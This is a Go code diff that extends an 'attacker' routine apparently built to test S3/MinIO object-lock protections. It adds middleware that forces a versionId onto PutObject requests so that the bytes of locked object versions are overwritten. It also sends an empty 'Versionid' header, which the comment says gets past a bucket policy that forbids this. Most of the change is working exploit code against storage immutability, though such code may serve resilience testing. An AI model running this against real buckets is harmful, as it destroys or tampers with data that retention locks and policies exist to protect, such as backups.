@@ -12,6 +12,7 @@ import (
 	"github.com/aws/aws-sdk-go-v2/aws"
 	"github.com/aws/aws-sdk-go-v2/service/s3"
 	"github.com/aws/aws-sdk-go-v2/service/s3/types"
+	"github.com/aws/smithy-go/middleware"
 	smithyhttp "github.com/aws/smithy-go/transport/http"
 )
 
@@ -84,7 +85,26 @@ func asOf(at time.Time) func(*s3.Options) {
 	}
 }
 
-// unlock tries to shorten the lock of a version, and to delete it.
+// Naming lets a put name a version, whose bytes MinIO then replaces unless it is locked in
+// COMPLIANCE mode. Past a policy that forbids it, an empty header helps: MinIO looks for the
+// values of conditions among the headers first.
+func Naming(version string, pastPolicy bool) func(*s3.Options) {
+	name := middleware.BuildMiddlewareFunc("versionId", func(
+		ctx context.Context, in middleware.BuildInput, next middleware.BuildHandler,
+	) (middleware.BuildOutput, middleware.Metadata, error) {
+		r := in.Request.(*smithyhttp.Request)
+		query := r.URL.Query()
+		query.Set("versionId", version)
+		r.URL.RawQuery = query.Encode()
+		if pastPolicy {
+			r.Header.Set("Versionid", "")
+		}
+		return next.HandleBuild(ctx, in)
+	})
+	return s3.WithAPIOptions(func(stack *middleware.Stack) error { return stack.Build.Add(name, middleware.After) })
+}
+
+// unlock tries to shorten the lock of a version, to delete it, and to replace its bytes.
 func (a *attacker) unlock(v *types.ObjectVersion) {
 	for _, bypass := range []*bool{nil, aws.Bool(true)} {
 		for _, mode := range []types.ObjectLockRetentionMode{types.ObjectLockRetentionModeGovernance, ""} {
@@ -106,6 +126,11 @@ func (a *attacker) unlock(v *types.ObjectVersion) {
 			Bucket: &a.bucket, BypassGovernanceRetention: bypass,
 			Delete: &types.Delete{Objects: []types.ObjectIdentifier{{Key: v.Key, VersionId: v.VersionId}}},
 		})
+		a.tried(err)
+	}
+	for _, past := range []bool{false, true} {
+		in := &s3.PutObjectInput{Bucket: &a.bucket, Key: v.Key, Body: strings.NewReader("replaced")}
+		_, err := a.client.PutObject(a.ctx(), in, Naming(*v.VersionId, past))
 		a.tried(err)
 	}
 	_, err := a.client.PutObjectLegalHold(a.ctx(), &s3.PutObjectLegalHoldInput{
